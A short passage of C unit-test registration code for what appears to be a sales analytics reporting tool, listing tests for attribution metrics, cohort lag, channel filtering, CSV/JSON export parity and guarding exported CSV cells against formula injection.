    tcase_add_test(tc, every_metric_in_both_attributions);
    tcase_add_test(tc, cohort_lag_counts_a_late_deal_once_it_closes);
    tcase_add_test(tc, as_of_inside_the_period);
    tcase_add_test(tc, channel_filter);
    tcase_add_test(tc, zero_denominators_and_scoring);
    tcase_add_test(tc, csv_equals_json);
    tcase_add_test(tc, funnel_channels_rejections_series);
    tcase_add_test(tc, new_clients_follow_deal_changes);
    tcase_add_test(tc, csv_cells_never_start_a_formula);
    tcase_add_test(tc, excel_csv_bytes);
    suite_add_tcase(s, tc);
    return s;
}
